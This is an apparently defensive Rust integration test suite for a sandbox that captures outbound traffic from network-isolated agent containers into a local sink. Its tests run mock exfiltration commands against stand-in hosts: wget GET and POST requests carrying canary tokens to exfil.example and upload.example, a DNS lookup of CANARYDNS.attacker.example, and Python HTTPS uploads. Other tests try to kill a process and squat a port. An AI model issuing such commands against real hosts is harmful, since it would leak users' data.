//! Against the real Docker engine: a busybox container with `--network none`, the forwarder
//! and the sink. Needs a running engine and `busybox-static` (for `skillscope/busybox:1`).
//! Every address used is loopback: in the container 127.0.0.1, on the host Unix sockets.

use std::collections::HashMap;
use std::path::Path;
use std::process::Command;
use std::time::{Instant, SystemTime, UNIX_EPOCH};

use skillscope_egress::{
    forwarder_start_command, ro_mounts, write_forwarder, write_resolv_conf, EgressKind, EgressRecord, Sink,
    UNPRIVILEGED_PORTS_SYSCTL,
};
use skillscope_sandbox::bootstrap::{self, BUSYBOX_TAG};
use skillscope_sandbox::{Container, ContainerSpec, Engine, ExecOptions, ExecResult};
use tokio::sync::OnceCell;

const TEST_LABEL: &str = "skillscope.test";
static BUSYBOX: OnceCell<String> = OnceCell::const_new();

async fn busybox(engine: &Engine) {
    BUSYBOX.get_or_init(|| async { bootstrap::busybox(engine).await.expect("busybox bootstrap") }).await;
}

/// Containers made through a scope carry its unique label; dropping the scope force-removes
/// any left (so a failing test leaks nothing).
struct Scope {
    label: String,
}

impl Scope {
    fn new(test: &str) -> Scope {
        let nanos = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos();
        Scope { label: format!("egress-{test}-{}-{nanos}", std::process::id()) }
    }

    async fn assert_clean(&self, engine: &Engine) {
        let left: Vec<_> = engine
            .managed_containers()
            .await
            .expect("list")
            .into_iter()
            .filter(|c| c.labels.get(TEST_LABEL) == Some(&self.label))
            .collect();
        assert!(left.is_empty(), "containers left behind: {left:?}");
    }
}

impl Drop for Scope {
    fn drop(&mut self) {
        let filter = format!("label={TEST_LABEL}={}", self.label);
        let Ok(out) = Command::new("docker").args(["ps", "-aq", "--filter", &filter]).output() else { return };
        for id in String::from_utf8_lossy(&out.stdout).split_whitespace() {
            let _ = Command::new("docker").args(["rm", "-f", id]).output();
        }
    }
}

/// A started busybox container as a trial would have it: no network, unprivileged user, the
/// forwarder, resolv.conf and the sink's sockets mounted read-only.
async fn trial_container(engine: &Engine, scope: &Scope, files: &Path, sink_dir: &Path) -> Container {
    busybox(engine).await;
    let spec = trial_spec(scope, BUSYBOX_TAG, files, sink_dir);
    let container = engine.create(&spec).await.expect("create");
    container.start().await.expect("start");
    container
}

fn trial_spec(scope: &Scope, image: &str, files: &Path, sink_dir: &Path) -> ContainerSpec {
    let forwarder = write_forwarder(files).expect("write forwarder");
    let resolv = write_resolv_conf(files).expect("write resolv.conf");
    let (key, value) = UNPRIVILEGED_PORTS_SYSCTL;
    ContainerSpec {
        labels: HashMap::from([(TEST_LABEL.to_string(), scope.label.clone())]),
        user: Some("1000:1000".into()),
        sysctls: HashMap::from([(key.to_string(), value.to_string())]),
        ro_mounts: ro_mounts(&forwarder, &resolv, sink_dir),
        ..ContainerSpec::new(image)
    }
}

async fn sh(container: &Container, script: &str, secs: u64) -> ExecResult {
    let cmd = vec!["sh".to_string(), "-c".to_string(), script.to_string()];
    container.exec(&cmd, ExecOptions::seconds(secs), &mut |_, _| {}).await.expect("exec")
}

fn find(records: &[EgressRecord], what: impl Fn(&EgressRecord) -> bool) -> Option<&EgressRecord> {
    records.iter().find(|r| what(r))
}

#[tokio::test]
async fn what_a_container_sends_out_reaches_only_the_sink() {
    let t0 = Instant::now();
    let engine = Engine::connect().await.expect("Docker engine");
    let scope = Scope::new("forwarded");
    let (files, sink_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let sink = Sink::start(sink_dir.path()).expect("sink");
    let c = trial_container(&engine, &scope, files.path(), sink_dir.path()).await;

    let start = sh(&c, &forwarder_start_command(), 15).await;
    assert!(start.success(), "forwarder did not start: {start:?}");
    let whoami = sh(&c, "id -u", 10).await;
    assert_eq!(whoami.stdout, "1000\n", "the forwarder runs unprivileged here");

    let get = sh(&c, "wget -q -O - 'http://exfil.example/collect?k=CANARY123'", 20).await;
    assert_eq!((get.exit_code, get.stdout.as_str()), (Some(0), "ok"), "{get:?}");
    let post = sh(&c, "wget -q -O - --post-data 'token=CANARYPOST' http://upload.example/in", 20).await;
    assert_eq!((post.exit_code, post.stdout.as_str()), (Some(0), "ok"), "{post:?}");
    let lookup = sh(&c, "nslookup CANARYDNS.attacker.example", 20).await;
    assert!(lookup.success() && lookup.stdout.contains("127.0.0.1"), "{lookup:?}");
    // The sink terminates TLS with its own authority; busybox's wget does not check certificates.
    let tls = sh(&c, "wget -q -O - 'https://secure.example/s?k=CANARYTLS'", 20).await;

    // The sockets' directory is mounted read-only, and there is no interface but loopback.
    let ro = sh(&c, "touch /run/skillscope-egress/x", 10).await;
    assert_ne!(ro.exit_code, Some(0), "{ro:?}");
    let dev = sh(&c, "cat /proc/net/dev", 10).await;
    let interfaces: Vec<&str> = dev.stdout.lines().skip(2).filter_map(|l| l.split(':').next()).map(str::trim).collect();
    assert_eq!(interfaces, ["lo"], "{dev:?}");

    let records = sink.records();
    let get = find(&records, |r| r.kind == EgressKind::Http && r.method.as_deref() == Some("GET"))
        .unwrap_or_else(|| panic!("no GET in {records:#?}"));
    assert_eq!(get.host.as_deref(), Some("exfil.example"));
    assert_eq!(get.path.as_deref(), Some("/collect?k=CANARY123"));
    assert_eq!(get.port, Some(80));
    let post = find(&records, |r| r.method.as_deref() == Some("POST")).unwrap_or_else(|| panic!("{records:#?}"));
    assert_eq!((post.host.as_deref(), post.path.as_deref()), (Some("upload.example"), Some("/in")));
    assert_eq!((post.body.as_str(), post.body_bytes), ("token=CANARYPOST", 16));
    assert!(post.headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("content-length")), "{post:?}");
    for name in ["exfil.example", "upload.example", "CANARYDNS.attacker.example", "secure.example"] {
        let dns = find(&records, |r| {
            r.kind == EgressKind::Dns && r.host.as_deref() == Some(name) && r.query_type.as_deref() == Some("A")
        });
        assert!(dns.is_some(), "no A query for {name}: {records:#?}");
    }
    let hello = find(&records, |r| r.kind == EgressKind::Tls).unwrap_or_else(|| panic!("no TLS: {records:#?}"));
    assert_eq!((hello.host.as_deref(), hello.port), (Some("secure.example"), Some(443)));
    if tls.success() {
        let https = find(&records, |r| r.kind == EgressKind::Https).unwrap_or_else(|| panic!("{records:#?}"));
        assert_eq!(https.path.as_deref(), Some("/s?k=CANARYTLS"), "{records:#?}");
    }
    assert_eq!(sink.dropped(), 0);

    c.remove().await.expect("remove");
    sink.stop().await;
    assert!(!sink_dir.path().join("tcp.sock").exists() && !sink_dir.path().join("dns.sock").exists());
    scope.assert_clean(&engine).await;
    eprintln!("forwarded egress: {:?}, {} records", t0.elapsed(), records.len());
}

#[tokio::test]
async fn without_the_forwarder_nothing_gets_out() {
    let t0 = Instant::now();
    let engine = Engine::connect().await.expect("Docker engine");
    let scope = Scope::new("unforwarded");
    let (files, sink_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let sink = Sink::start(sink_dir.path()).expect("sink");
    let c = trial_container(&engine, &scope, files.path(), sink_dir.path()).await;

    let get = sh(&c, "wget -q -T 3 -O - 'http://exfil.example/collect?k=CANARY123'", 20).await;
    assert_ne!(get.exit_code, Some(0), "{get:?}");
    let direct = sh(&c, "wget -q -T 3 -O - 'http://127.0.0.1/collect?k=CANARY123'", 20).await;
    assert_ne!(direct.exit_code, Some(0), "{direct:?}");
    assert!(!direct.stdout.contains("ok"), "{direct:?}");
    assert!(sink.records().is_empty(), "{:#?}", sink.records());

    c.remove().await.expect("remove");
    sink.stop().await;
    scope.assert_clean(&engine).await;
    eprintln!("unforwarded egress: {:?}", t0.elapsed());
}

#[tokio::test]
async fn started_as_root_the_forwarder_is_out_of_the_agents_reach() {
    let engine = Engine::connect().await.expect("Docker engine");
    let scope = Scope::new("root-forwarder");
    let (files, sink_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let sink = Sink::start(sink_dir.path()).expect("sink");
    let c = trial_container(&engine, &scope, files.path(), sink_dir.path()).await;

    let cmd = vec!["sh".to_string(), "-c".to_string(), forwarder_start_command()];
    let as_root = ExecOptions { user: Some("0".into()), ..ExecOptions::seconds(15) };
    let start = c.exec(&cmd, as_root, &mut |_, _| {}).await.expect("exec");
    assert!(start.success(), "{start:?}");
    // The agent's user can neither stop it nor take its port.
    let pid = sh(&c, "ps -o pid,user,args | awk '/[e]gress-forwarder/ {print $1, $2}'", 10).await;
    let (pid, user) = pid.stdout.trim().split_once(' ').unwrap_or_else(|| panic!("no forwarder: {pid:?}"));
    assert_eq!(user, "root");
    let kill = sh(&c, &format!("kill {pid}"), 10).await;
    assert!(kill.exit_code != Some(0) && kill.stderr.contains("not permitted"), "{kill:?}");
    let squat = sh(&c, "timeout 2 nc -l -p 80 127.0.0.1", 10).await;
    assert!(squat.stderr.contains("in use"), "{squat:?}");
    let get = sh(&c, "wget -q -O - http://still.example/", 20).await;
    assert_eq!(get.stdout, "ok", "{get:?}");

    c.remove().await.expect("remove");
    sink.stop().await;
    assert!(
        find(&sink.records(), |r| r.host.as_deref() == Some("still.example") && r.kind == EgressKind::Http).is_some()
    );
    scope.assert_clean(&engine).await;
}

#[tokio::test]
async fn the_forwarder_says_when_it_cannot_listen() {
    let engine = Engine::connect().await.expect("Docker engine");
    busybox(&engine).await;
    let scope = Scope::new("no-sysctl");
    let (files, sink_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let sink = Sink::start(sink_dir.path()).expect("sink");
    let mut spec = trial_spec(&scope, BUSYBOX_TAG, files.path(), sink_dir.path());
    // Docker (20.10+) already starts unprivileged ports at 0 in a container's own network
    // namespace; other engines may not, which the kernel's default stands for here.
    spec.sysctls.insert(UNPRIVILEGED_PORTS_SYSCTL.0.to_string(), "1024".to_string());
    let c = engine.create(&spec).await.expect("create");
    c.start().await.expect("start");

    let start = sh(&c, &forwarder_start_command(), 15).await;
    assert_eq!(start.exit_code, Some(1), "{start:?}");
    assert!(start.stderr.contains("cannot listen on TCP 127.0.0.1:80"), "{start:?}");

    c.remove().await.expect("remove");
    sink.stop().await;
    assert!(sink.records().is_empty());
    scope.assert_clean(&engine).await;
}

/// The same forwarder on a glibc image, with Python as the client. Uses
/// `skillscope/debian-python:12` when present (the sandbox tests build it, with debootstrap
/// and the Debian mirror); skipped, saying so, when it is not.
#[tokio::test]
async fn a_glibc_image_with_python_goes_through_the_forwarder_too() {
    let engine = Engine::connect().await.expect("Docker engine");
    if engine.image_id(bootstrap::DEBIAN_PYTHON_TAG).await.expect("image lookup").is_none() {
        eprintln!("skipped: {} absent (skillscope image bootstrap)", bootstrap::DEBIAN_PYTHON_TAG);
        return;
    }
    let scope = Scope::new("glibc");
    let (files, sink_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let sink = Sink::start(sink_dir.path()).expect("sink");
    let mut spec = trial_spec(&scope, bootstrap::DEBIAN_PYTHON_TAG, files.path(), sink_dir.path());
    // The container trusts the sink's authority: its HTTPS is seen in the clear.
    spec.ro_mounts.push(skillscope_egress::write_ca(files.path(), sink.ca_pem()).expect("write CA"));
    spec.env.extend(skillscope_egress::ca_env());
    let c = engine.create(&spec).await.expect("create");
    c.start().await.expect("start");

    let start = sh(&c, &forwarder_start_command(), 15).await;
    assert!(start.success(), "{start:?}");
    let script = r#"
import socket, ssl, urllib.request
print(urllib.request.urlopen("http://py.example/p?k=CANARYPY", data=b"x" * 70000, timeout=10).read().decode())
print(urllib.request.urlopen("https://secure.example/s?k=CANARYS", data=b"token=CANARYTLS", timeout=10).read().decode())
pinned = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
try:
    urllib.request.urlopen("https://tls.example/", timeout=10, context=pinned)
except Exception as e:
    print("tls refused:", type(e).__name__)
"#;
    let py = sh(&c, &format!("python3 -c '{script}'"), 30).await;
    assert!(py.success() && py.stdout.starts_with("ok\nok\ntls refused"), "{py:?}");

    let records = sink.records();
    let post = find(&records, |r| r.kind == EgressKind::Http).unwrap_or_else(|| panic!("{records:#?}"));
    assert_eq!((post.host.as_deref(), post.path.as_deref()), (Some("py.example"), Some("/p?k=CANARYPY")));
    assert_eq!((post.body.len(), post.body_bytes), (skillscope_egress::BODY_CAP, 70000));
    // HTTPS with the sink's authority trusted: the request in the clear.
    let https = find(&records, |r| r.kind == EgressKind::Https).unwrap_or_else(|| panic!("{records:#?}"));
    assert_eq!((https.host.as_deref(), https.path.as_deref()), (Some("secure.example"), Some("/s?k=CANARYS")));
    assert_eq!(
        (https.method.as_deref(), https.body.as_str(), https.port),
        (Some("POST"), "token=CANARYTLS", Some(443))
    );
    // A client that pins its own roots refuses the sink: its server name is all there is.
    let pinned = find(&records, |r| r.kind == EgressKind::Tls && r.host.as_deref() == Some("tls.example"));
    assert!(pinned.is_some(), "{records:#?}");
    assert!(!records.iter().any(|r| r.kind == EgressKind::Https && r.host.as_deref() == Some("tls.example")));

    c.remove().await.expect("remove");
    sink.stop().await;
    scope.assert_clean(&engine).await;
}
